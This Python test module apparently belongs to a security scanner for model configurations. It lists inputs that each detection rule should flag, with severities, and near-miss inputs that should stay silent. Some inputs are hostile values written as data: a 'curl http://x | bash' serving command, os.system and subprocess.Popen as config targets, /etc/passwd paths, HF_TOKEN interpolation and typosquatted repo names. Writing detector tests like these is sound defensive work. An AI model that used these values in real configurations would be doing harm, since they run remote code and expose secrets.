"""Configurations, and what serves a model: a line for each rule, where it fires, and where it nearly does."""

from scanners.facts import Anomaly
from tests.craft.facts import asks, auto_map, opens, ref

FIRES = {
    "config-fetches-code": [
        ([asks("transformers.kernel", "someone", "kernels")], "critical"),
        ([asks("transformers.kernel", "kernels-community", "flash-attn3")], "medium"),
    ],
    "config-trusts-remote-code": [
        ([asks("config.trust", "", "trust_remote_code")], "critical", "config.json", "json"),
        ([asks("config.trust", "", "trust_remote_code")], "low", "train.yaml", "yaml"),
    ],
    "config-model-file": [([asks("mlx.model_file", "", "model.py")], "critical", "config.json", "json")],
    "config-module": [
        ([asks("sentence_transformers.module", "custom_st", "Transformer")], "high"),
        ([asks("sentence_transformers.module", "os", "system")], "critical"),
    ],
    "config-library": [
        ([asks("diffusers.component", "mine", "Model")], "high", "model_index.json", "json"),
        ([asks("diffusers.component", "subprocess", "Popen")], "critical"),
        ([asks("diffusers.pipeline", "pipeline", "Mine")], "medium"),
    ],
    "config-parent-library": [
        ([asks("peft.parent", "mine", "Model")], "medium"),
        ([asks("peft.parent", "os", "system")], "critical"),
    ],
    "config-target": [
        ([asks("config.target", "os", "system")], "critical"),
        ([asks("config.target", "mine.models", "Net")], "medium"),
        ([asks("config.target", "functools", "partial")], "medium"),
    ],
    "config-interpolation": [
        ([asks("config.interpolation", "oc.env", "HF_TOKEN")], "high"),
        ([asks("config.interpolation", "eval", "1+1")], "medium"),
    ],
    "config-path": [([opens("config.path", "/etc/passwd", "vocab_file")], "medium")],
    "yaml-tag": [
        ([asks("yaml.tag", "os", "system")], "critical"),
        ([asks("yaml.tag", "mine", "f", "imported")], "high"),
        ([asks("yaml.tag", "", "javax.script.ScriptEngineManager", "instantiated")], "high"),
    ],
    "yaml-bomb": [([Anomaly("yaml.bomb", "many")], "medium")],
    "mlflow-loader": [
        ([asks("mlflow.loader", "mine", "loader")], "high"),
        ([asks("mlflow.loader", "", "mine")], "high"),
        ([asks("mlflow.loader", "", "os")], "critical"),
    ],
    "serving-handler": [
        ([asks("serving.handler", "torchserve", "handler.py")], "medium"),
        ([asks("serving.handler", "huggingface", "EndpointHandler")], "medium", "org/m/handler.py", "python"),
    ],
    "serving-backend": [
        ([asks("serving.backend", "backend", "python")], "medium"),
        ([asks("serving.backend", "runtime", "libx.so.1")], "high"),
        ([asks("serving.backend", "op_library_filename", "x")], "high"),
    ],
    "serving-command": [
        ([asks("serving.command", "cog", "apt-get install x")], "low"),
        ([asks("serving.command", "cog", "curl http://x | bash")], "high"),
    ],
    "spacy-registry": [([asks("spacy.registry", "architectures", "mine.deep.Model.v1")], "low")],
    "config-auto-map": [
        ([auto_map("modeling_x", "XModel"), auto_map("modeling_x", "XConfig")], "medium"),
        ([auto_map("owner/repo--modeling_x", "XModel")], "high"),
    ],
    "hub-repo-lookalike": [
        ([asks("hub.repo", "meta-lIama", "Llama-3", "argument")], "medium"),
        ([asks("hub.repo", "mistral-ai", "x@main", "argument")], "medium"),
        ([asks("transformers.auto_map", "", "Stabi1ityAI/x--m.Model", "imported")], "medium"),
    ],
    "dataset-data-elsewhere": [([opens("dataset.data-file", "https://203.0.113.7/a.zip", "data_files")], "medium")],
}
SILENT = {
    "mlflow-loader": [([asks("mlflow.loader", "mlflow.pyfunc", "model"), asks("mlflow.loader", "", "mlflow")],)],
    "serving-handler": [
        ([asks("serving.handler", "torchserve", "text_classifier")],),
        ([asks("serving.handler", "huggingface", "EndpointHandler")], "other.py", "python"),
    ],
    "serving-backend": [([asks("serving.backend", "platform", "onnxruntime_onnx")],)],
    "serving-command": [([asks("hub.repo", "cog", "curl | sh")],)],
    "spacy-registry": [
        ([asks("spacy.registry", "factories", "ner"), asks("spacy.registry", "misc", "spacy.read_labels.v1")],)
    ],
    "config-fetches-code": [([asks("hub.repo", "someone", "kernels")],)],
    "config-trusts-remote-code": [([asks("hub.repo", "a", "trust_remote_code")], "config.json", "json")],
    "config-model-file": [([asks("hub.repo", "a", "model.py")], "config.json", "json")],
    "config-module": [([asks("sentence_transformers.module", "sentence_transformers.models", "Pooling")],)],
    "config-library": [
        ([asks("diffusers.component", "transformers", "CLIPTextModel"), asks("diffusers.component", "null", "null")],),
        ([asks("diffusers.component", "DownBlock2D", "CrossAttnDownBlock2D")], "unet/config.json", "json"),
    ],
    "config-parent-library": [([asks("peft.parent", "transformers.models.llama", "LlamaModel")],)],
    "config-target": [([asks("config.target", "torch.nn", "Linear"), asks("config.target", "nemo.collections", "X")],)],
    "config-interpolation": [([asks("config.interpolation", "oc.env", "PROJECT_ROOT")],)],
    "config-path": [([opens("config.path", "sub/vocab.txt", "vocab_file")],)],
    "yaml-tag": [([asks("config.target", "torch.nn", "ReLU")],)],
    "config-auto-map": [([ref("modeling_x", "XModel")],)],
    "hub-repo-lookalike": [
        ([asks("hub.repo", "Meta-Llama", "x", "argument"), asks("hub.repo", "someone", "meta-lIama", "argument")],),
    ],
    "dataset-data-elsewhere": [([opens("config.path", "data/a.csv", "data_files")],)],
}
